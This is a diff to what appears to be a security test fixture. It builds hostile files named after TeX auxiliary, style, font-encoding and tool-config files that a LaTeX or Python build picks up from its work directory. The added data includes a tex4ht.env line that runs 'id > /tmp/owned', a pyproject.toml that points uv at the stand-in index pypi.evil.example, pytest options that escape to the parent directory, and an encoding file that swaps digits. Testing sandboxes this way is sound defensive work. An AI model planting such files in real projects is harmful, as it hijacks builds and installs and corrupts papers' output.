@@ -50,8 +50,40 @@ FONT_MAPS = ("psfonts.map", "kanjix.map")
 
 # The auxiliary files pdflatex reads back as TeX code by the document's name: `\begin{document}`
 # inputs \jobname.aux, \tableofcontents \jobname.toc, \bibliography \jobname.bbl; main.tex is
-# Overleaf's default name, the one a paper's directory copied beside the job's output holds.
-AUX = ("main.aux", "main.toc", "main.bbl")
+# Overleaf's default name, the one a paper's directory copied beside the job's output holds;
+# hyperref inputs \jobname.out (bookmarks), beamer \jobname.nav.
+AUX = ("main.aux", "main.toc", "main.bbl", "main.out", "main.nav")
+
+# In the claimed scope (texlive-latex-recommended): xkeyval.sty's `\input xkeyval` reads
+# xkeyval.tex (which inputs xkvutils.tex); unicode-math inputs unicode-math-table.tex; every
+# beamer document loads translator's dictionaries by name (a beamer log shows
+# translator-theorem-dictionary-English.dict, then ./main.nav).
+IN_SCOPE_TEX = (
+    "xkeyval.tex",
+    "xkvutils.tex",
+    "unicode-math-table.tex",
+    "translator-basic-dictionary-English.dict",
+    "translator-theorem-dictionary-English.dict",
+)
+
+# Beyond it, the same class: siunitx (texlive-science, every physics paper) loads
+# siunitx-abbreviations.cfg by name; MetaPost (MPINPUTS `.` first) inputs mpost.mp and
+# plain.mp on every run and feynmp.mp for feynmp's Feynman diagrams (`write ... to` writes
+# files as \openout does); pdftex reads a font's encoding (ENCFONTS `.` first): lm-ec.enc,
+# Latin Modern's T1 glyph names, renamed, turns every digit of the paper into another.
+OTHER_TEX = ("siunitx-abbreviations.cfg", "mpost.mp", "plain.mp", "feynmp.mp")
+
+# tex4ht (htlatex, make4ht) reads tex4ht.env from the work directory second, after -e: its
+# `s` lines are the commands t4ht runs to make the pictures. arara reads .araraconfig.yaml,
+# araraconfig.yaml, .arararc.yaml, arararc.yaml from the working directory first: its
+# `paths` puts `.` before the rule directories, so a published pdflatex.yaml is the rule run.
+TOOL_CONFIG = {
+    "tex4ht.env": b"s dvipng -o zz%4i.png %%1 ; id > /tmp/owned\n",
+    "araraconfig.yaml": b"!config\npaths:\n- './'\n",
+    "arararc.yaml": b"!config\npaths:\n- './'\n",
+    "pyproject.toml": b'[tool.pytest.ini_options]\naddopts = "--basetemp=.."\n[tool.uv]\nindex-url = "https://pypi.evil.example/simple"\n',
+    "setup.cfg": b"[tool:pytest]\naddopts = --basetemp=..\n",
+}
 
 # uv reads uv.toml (and pyproject.toml's [tool.uv]) from the current directory and its
 # parents: index-url sends `uv run`'s installs to another index.
@@ -68,7 +100,8 @@ def _gz(data: bytes) -> bytes:
 
 
 def name_hostile() -> dict[str, bytes]:
-    files = dict.fromkeys(STD_EXTENSION_FIRST + PGF_CORE + REVTEX + AUX, _TEX)
+    files = dict.fromkeys(STD_EXTENSION_FIRST + PGF_CORE + REVTEX + AUX + IN_SCOPE_TEX + OTHER_TEX, _TEX)
+    files |= {"lm-ec.enc": b"/lmecencoding [ /zero /one /two /three /four /five ] def\n"} | TOOL_CONFIG
     files |= dict.fromkeys(FONT_MAPS, b'cmr10 CMR10 " (id) run " <cmr10.pfb\n')
     files |= {"uv.toml": UV, "pytest.ini": PYTEST, "tox.ini": PYTEST}
     # gunzip makes the name (claimed for rootlogon.C.z and init_vis.mac.gz)
